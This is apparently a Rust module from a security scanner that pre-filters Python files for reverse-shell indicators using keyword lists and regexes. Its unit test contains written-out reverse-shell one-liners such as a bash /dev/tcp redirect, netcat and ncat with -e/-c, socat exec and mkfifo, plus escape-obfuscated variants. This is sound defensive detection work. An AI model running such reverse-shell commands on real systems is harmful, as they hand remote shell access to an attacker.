//! Which Python files in tests, docs, examples and vendored code are worth parsing.
//!
//! There only a reverse shell can still change the verdict (`verdict::behaviours_that_count`),
//! so such files get the light rule selection (`rules_for`). A reverse shell needs a socket and
//! a shell; in Python source, the `reverse-shell` rule finds one through:
//! - a connect call the index resolves to the `socket` module: the file names `socket`, or
//!   builds a module or function name at run time (`__import__`, `import_module`, `exec`,
//!   `eval`, `compile`, `builtins`, `globals()`, `locals()`, `vars()`);
//! - a shell one-liner in a string (`/dev/tcp/…`, `nc -e`, `socat … exec:`, `mkfifo`,
//!   `TCPClient`), written out, hidden behind escapes of printable characters or character
//!   codes (`chr`, `bytes([...])`, `%c`), or started as a process (`os.system`, `subprocess`,
//!   `popen`, `spawn`, `startfile`, `exec*`);
//! - a payload the decoders find and scan in turn: a decoder call (base64, hex, zlib, codecs,
//!   marshal, rot13) or a long encoded blob.
//!
//! A file that shows none of these is neither parsed nor reported: it cannot open a socket or
//! start a shell by itself. What this gives up, knowingly: a shell command line split into
//! pieces that are only joined (`+`, f-strings, `join`, slicing, `replace`) and either never
//! started in that file or started through a process function whose name is itself built
//! with `getattr`. Every other member, and every decoded payload, is analysed in full.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

/// What a needle must look like where it is found.
#[derive(Clone, Copy, PartialEq)]
enum Shape {
    /// Anywhere (also inside a longer word).
    Anywhere,
    /// A whole identifier: no identifier character on either side.
    Word,
    /// A whole identifier that is not an attribute (`re.compile`, `cursor.execute` are not
    /// the builtins).
    Builtin,
}

const NEEDLES: &[(&str, Shape)] = &[
    // The socket module, and names built at run time.
    ("socket", Shape::Anywhere),
    ("__import__", Shape::Anywhere),
    ("import_module", Shape::Anywhere),
    ("builtins", Shape::Anywhere),
    ("__builtin__", Shape::Anywhere),
    ("exec", Shape::Builtin),
    ("eval", Shape::Builtin),
    ("compile", Shape::Builtin),
    ("globals", Shape::Word),
    ("locals", Shape::Word),
    ("vars", Shape::Word),
    ("execfile", Shape::Anywhere),
    ("runpy", Shape::Anywhere),
    ("runsource", Shape::Anywhere),
    ("FunctionType", Shape::Anywhere),
    // Processes.
    ("system", Shape::Word),
    ("popen", Shape::Anywhere),
    ("subprocess", Shape::Anywhere),
    ("spawn", Shape::Anywhere),
    ("startfile", Shape::Anywhere),
    ("execl", Shape::Anywhere),
    ("execv", Shape::Anywhere),
    ("getoutput", Shape::Anywhere),
    ("ShellExecute", Shape::Anywhere),
    ("pty", Shape::Word),
    ("dup2", Shape::Anywhere),
    // Character codes.
    ("chr", Shape::Word),
    ("bytes", Shape::Word),
    ("bytearray", Shape::Word),
    ("%c", Shape::Anywhere),
    (":c}", Shape::Anywhere),
    // Decoders.
    ("b64decode", Shape::Anywhere),
    ("b32decode", Shape::Anywhere),
    ("b16decode", Shape::Anywhere),
    ("b85decode", Shape::Anywhere),
    ("a85decode", Shape::Anywhere),
    ("decodebytes", Shape::Anywhere),
    ("decodestring", Shape::Anywhere),
    ("a2b_", Shape::Anywhere),
    ("unhexlify", Shape::Anywhere),
    ("fromhex", Shape::Anywhere),
    ("decompress", Shape::Anywhere),
    ("codecs", Shape::Anywhere),
    ("marshal", Shape::Anywhere),
    // Codec names `decode`/`encode` apply.
    ("rot13", Shape::Anywhere),
    ("rot_13", Shape::Anywhere),
    ("rot-13", Shape::Anywhere),
    ("base64", Shape::Anywhere),
    ("base_64", Shape::Anywhere),
    ("base-64", Shape::Anywhere),
    ("zlib", Shape::Anywhere),
    ("hex_codec", Shape::Anywhere),
    ("'hex'", Shape::Anywhere),
    ("\"hex\"", Shape::Anywhere),
    ("'zip'", Shape::Anywhere),
    ("\"zip\"", Shape::Anywhere),
    ("utf_16", Shape::Anywhere),
    ("utf-16", Shape::Anywhere),
    ("utf16", Shape::Anywhere),
    // Shell one-liners (the reverse-shell command shapes), any case.
    ("/dev/tcp", Shape::Anywhere),
    ("/dev/udp", Shape::Anywhere),
    ("socat", Shape::Word),
    ("mkfifo", Shape::Anywhere),
    ("tcpclient", Shape::Anywhere),
];

/// Needles matched in any case: command lines are not case-sensitive, identifiers are (and
/// matching those in any case only opens more files).
static AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(NEEDLES.iter().map(|(n, _)| n))
        .unwrap_or_else(|e| panic!("light needles: {e}"))
});

/// `nc -e sh` and its kin (`nc`, `ncat` and `netcat` are also ordinary names); escapes of
/// printable ASCII characters (`\x73`, `\u0073`, `\U00000073`, `\N{...}`, `\163`, `\63`); and a
/// `decode`/`encode` whose codec is not written out as a string (`.decode(name)`).
static SHAPES: LazyLock<Regex> = LazyLock::new(|| {
    crate::pattern::new(
        r#"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]*\s-[ec]|\\(?:x[2-7][0-9a-f]|u00[2-7][0-9a-f]|U000000[2-7][0-9a-f]|N\{|1[0-7][0-7]|0?[4-7][0-7])|\.(?:de|en)code\(\s*[^\s)'"]"#,
    )
    .unwrap_or_else(|e| panic!("light shapes: {e}"))
});

fn is_ident(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c >= 0x80
}

/// True when the light rules could find something in Python source `text` that counts in
/// tests or vendored code (see the module documentation); false means it need not be parsed.
pub fn worth_parsing(text: &[u8]) -> bool {
    let found = AUTOMATON.find_overlapping_iter(text).any(|m| {
        let before = m.start().checked_sub(1).map(|i| text[i]);
        let after = text.get(m.end()).copied();
        match NEEDLES[m.pattern().as_usize()].1 {
            Shape::Anywhere => true,
            Shape::Word => !before.is_some_and(is_ident) && !after.is_some_and(is_ident),
            Shape::Builtin => {
                !before.is_some_and(|c| is_ident(c) || c == b'.') && !after.is_some_and(is_ident)
            }
        }
    });
    found
        || std::str::from_utf8(text).map_or(true, |t| {
            SHAPES.is_match(t) || !super::encoded_payload::blob_runs(t).is_empty()
        })
}

#[cfg(test)]
mod tests {
    use super::worth_parsing;

    #[test]
    fn opens_on_every_way_to_a_socket_a_shell_or_a_payload() {
        let blob = "QUJD".repeat(60);
        for src in [
            "import socket\n",
            "from socketserver import TCPServer\n",
            "m = __import__('so' + 'cket')\n",
            "import importlib\nm = importlib.import_module(name)\n",
            "f = globals()['ev' + 'al']\n",
            "run = exec\nrun(code)\n",
            "x = eval(text)\n",
            "code = compile(src, 'x', 'exec')\n",
            "import os\nos.system(cmd)\n",
            "from os import system\n",
            "import subprocess\n",
            "os.posix_spawn(p, args, env)\n",
            "os.execvp(p, args)\n",
            "pty.spawn('/bin/sh')\n",
            "os.dup2(a, b)\n",
            "CMD = 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'\n",
            "CMD = 'NC 10.0.0.5 4444 -e /bin/sh'\n",
            "CMD = 'ncat 10.0.0.5 4444 -c bash'\n",
            "CMD = 'socat tcp:10.0.0.5:4444 exec:sh'\n",
            "CMD = 'rm /tmp/f; mkfifo /tmp/f'\n",
            "CMD = '\\x2fdev\\x2ftcp'\n",
            "CMD = '\\u002fdev'\n",
            "CMD = '\\057dev'\n",
            "s = ''.join(chr(c) for c in codes)\n",
            "s = bytes([115, 111])\n",
            "s = '%c%c' % (115, 111)\n",
            "import base64\nbase64.b64decode(x)\n",
            "zlib.decompress(x)\n",
            "import codecs\n",
            "bytes.fromhex(x)\n",
            "x.decode('rot13')\n",
            "x.decode(codec)\n",
            "x.decode(encoding='utf-16')\n",
        ] {
            assert!(worth_parsing(src.as_bytes()), "{src}");
        }
        assert!(worth_parsing(format!("DATA = '{blob}'\n").as_bytes()));
        // Not UTF-8: cannot be judged by its words.
        assert!(worth_parsing(b"x = 1 \xff\n"));
    }

    #[test]
    fn plain_tests_are_not_parsed() {
        for src in [
            "import pytest\nimport pandas as pd\n\ndef test_concat():\n    ncat = 3\n    df = pd.concat([a, b])\n    assert df.shape == (ncat, 2)\n",
            "import re\nPAT = re.compile(r'\\d+')\n",
            "def test_db(cursor):\n    cursor.execute('select 1')\n    model.eval()\n",
            "def evaluate(x):\n    return x.decode('utf-8') + y.decode()\n",
            "assert platform_system == 'Linux'\n",
            "with open('tool.exe', 'wb') as f:\n    f.write(data)\nos.chmod('tool.exe', 0o755)\n",
            "msg = 'ends with \\n and a tab \\t'\n",
        ] {
            assert!(!worth_parsing(src.as_bytes()), "{src}");
        }
    }
}
